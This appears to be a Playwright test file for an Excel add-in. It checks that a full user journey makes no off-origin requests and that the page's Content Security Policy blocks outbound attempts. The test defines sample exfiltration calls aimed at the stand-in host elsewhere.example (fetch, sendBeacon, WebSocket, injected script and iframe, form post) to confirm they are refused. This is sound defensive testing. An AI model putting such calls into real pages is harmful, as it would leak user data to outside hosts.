// What leaves the page over a whole journey in workbench and pane: nothing. The published pane asks Microsoft's address for
// the library alone. And that the watch sees what would leave, and the policy stops it.
import { readFileSync } from 'node:fs';
import path from 'node:path';
import type { Frame } from 'playwright-core';
import { OFFICE_CDN, SECURITY_HEADERS } from '../../scripts/headers.cjs';
import { startWorkbench, type WorkbenchPage, type WorkbenchSite } from './workbenchPage';

const ROOT = path.join(__dirname, '../..');
const LIBRARY = path.join(path.dirname(require.resolve('@microsoft/office-js/package.json')), 'dist');
const HOSTED = `${OFFICE_CDN}/lib/1/hosted/`;

let site: WorkbenchSite;
let open: WorkbenchPage;

beforeAll(async () => {
  site = await startWorkbench();
});
afterAll(() => site.stop());
beforeEach(async () => {
  open = await site.open({}, '?uji');
});
afterEach(() => open.close());

const button = (name: string) => open.pane.getByRole('button', { name, exact: true });
const title = (name: string) => open.pane.getByRole('heading', { level: 1, name, exact: true });
const origin = (): string => new URL(open.page.url()).origin;
/** Blobs and data are made in the page and stay there. */
const foreign = (): readonly string[] =>
  open.outgoing.requests.filter(
    (request) => !request.startsWith(`${origin()}/`) && !request.startsWith('blob:'),
  );

/** The officer's whole way: open, look, write, ask why, save a copy, take back. */
async function journey(): Promise<void> {
  await open.page.getByRole('main').getByRole('button', { name: 'Buka contoh' }).click();
  await button('Mulai dengan file ini').click();
  await title('Pratinjau').waitFor();
  await button('Tulis hasil').click();
  await title('Selesai').waitFor();
  await open.page.getByRole('gridcell', { name: 'Retribusi Pelayanan Pasar', exact: true }).first().click();
  await open.page.getByRole('toolbar').getByRole('button', { name: 'Mengapa?', exact: true }).click();
  await title('Mengapa?').waitFor();
  await open.pane.getByText('99,99%').first().waitFor();
  const download = open.page.waitForEvent('download');
  await open.page.getByRole('button', { name: 'Simpan salinan' }).click();
  await (await download).path();
  await button('Tutup').click();
  await button('Riwayat').click();
  await title('Riwayat').waitFor();
  await button('Kembali').click();
  await button('Batalkan semua').click();
  await title('Dibatalkan').waitFor();
}

function paneFrame(): Frame {
  const frame = open.page.frames().find((one) => one.url().includes('/pane/'));
  if (frame === undefined) throw new Error('There is no pane');
  return frame;
}

describe('a whole journey', () => {
  it('asks for nothing beyond the page’s own origin, and breaks no policy', async () => {
    await journey();
    expect(foreign()).toEqual([]);
    expect(open.outgoing.violations).toEqual([]);
    expect(open.troubles).toEqual([]);
    expect(open.outgoing.requests.filter((request) => request.includes('/pane/')).length).toBeGreaterThan(5);
  });

  it('of the published pane asks Microsoft for the library alone, and nothing of the workbook goes with it', async () => {
    const page = readFileSync(path.join(ROOT, 'dist/pane/taskpane.html'), 'utf8');
    const asked: { readonly url: string; readonly method: string; readonly body: string | null }[] = [];
    await open.page.route('**/pane/taskpane.html*', (route) =>
      route.fulfill({
        body: page,
        contentType: 'text/html; charset=utf-8',
        headers: { ...SECURITY_HEADERS },
      }),
    );
    await open.page.context().route(`${OFFICE_CDN}/**`, (route) => {
      const request = route.request();
      asked.push({ url: request.url(), method: request.method(), body: request.postData() });
      const file = request.url().replace(HOSTED, '').replace(/\?.*$/, '');
      return route.fulfill({ path: path.join(LIBRARY, file), contentType: 'text/javascript' });
    });
    await journey();
    expect(foreign().filter((request) => !request.startsWith(HOSTED))).toEqual([]);
    expect(open.outgoing.violations).toEqual([]);
    expect(asked.map(({ method, body }) => `${method} ${body ?? ''}`)).toEqual(asked.map(() => 'GET '));
    expect([...new Set(asked.map(({ url }) => url.replace(HOSTED, '')))].sort()).toEqual([
      'excel-web-16.00.js',
      'id-id/office_strings.js',
      'office.js',
      'telemetry/oteljs_agave.js',
    ]);
  });
});

describe('the policy', () => {
  const elsewhere = 'https://elsewhere.example/';
  const ATTEMPTS: readonly { readonly what: string; readonly directive: string; readonly script: string }[] =
    [
      {
        what: 'a fetch',
        directive: 'connect-src',
        script: `void fetch('${elsewhere}').catch(() => undefined)`,
      },
      { what: 'a beacon', directive: 'connect-src', script: `navigator.sendBeacon('${elsewhere}', 'x')` },
      {
        what: 'a socket',
        directive: 'connect-src',
        script: `try { new WebSocket('wss://elsewhere.example/') } catch { /* refused at once */ }`,
      },
      { what: 'an image', directive: 'img-src', script: `new Image().src = '${elsewhere}x.png'` },
      {
        what: 'a font',
        directive: 'font-src',
        script: `void new FontFace('x', 'url(${elsewhere}x.woff2)').load().catch(() => undefined)`,
      },
      {
        what: 'a script from elsewhere',
        directive: 'script-src-elem',
        script: `document.head.append(Object.assign(document.createElement('script'), { src: '${elsewhere}x.js' }))`,
      },
      {
        what: 'an inline script',
        directive: 'script-src-elem',
        script: `document.head.append(Object.assign(document.createElement('script'), { text: 'window.wasRun = 1' }))`,
      },
      {
        what: 'an inline handler',
        directive: 'script-src-attr',
        script: `document.body.insertAdjacentHTML('beforeend', '<p onclick="window.wasRun = 1">x</p>'); document.body.lastElementChild.click()`,
      },
      {
        what: 'a text turned into code',
        directive: 'script-src',
        // By a timer, because what the test itself evaluates is free of the page's policy.
        script: `setTimeout('window.wasRun = 1')`,
      },
      {
        what: 'a frame',
        directive: 'frame-src',
        script: `document.body.append(Object.assign(document.createElement('iframe'), { src: '${elsewhere}' }))`,
      },
      {
        what: 'a form',
        directive: 'form-action',
        // Into a frame of its own: where a form is refused, Chromium shows its error page in the place that it was sent to.
        script: `{
          document.body.append(Object.assign(document.createElement('iframe'), { name: 'into' }));
          const form = document.createElement('form');
          document.body.append(Object.assign(form, { action: '${elsewhere}', method: 'post', target: 'into' }));
          form.submit();
        }`,
      },
    ];

  it.each(['workbench', 'pane'])(
    'of the %s stops whatever would leave, and the watch sees each try',
    async (place) => {
      await open.page.getByRole('main').getByRole('button', { name: 'Buka contoh' }).click();
      await title('Nilai capaian target dan pakta').waitFor();
      const frame = place === 'pane' ? paneFrame() : open.page.mainFrame();
      for (const { what, directive, script } of ATTEMPTS) {
        const refusal = await frame.evaluate(
          `new Promise((resolve) => {
          document.addEventListener('securitypolicyviolation', (event) => {
            if (event.effectiveDirective === '${directive}') resolve(event.disposition);
          });
          ${script};
        })`,
        );
        expect([what, refusal]).toEqual([what, 'enforce']);
      }
      expect(open.outgoing.violations.length).toBeGreaterThanOrEqual(ATTEMPTS.length);
      expect(await frame.evaluate('window.wasRun')).toBeUndefined();
      expect(open.outgoing.requests).toContain(`beacon ${elsewhere}`);
      expect(open.outgoing.requests).toContain('WebSocket wss://elsewhere.example/');
    },
  );
});
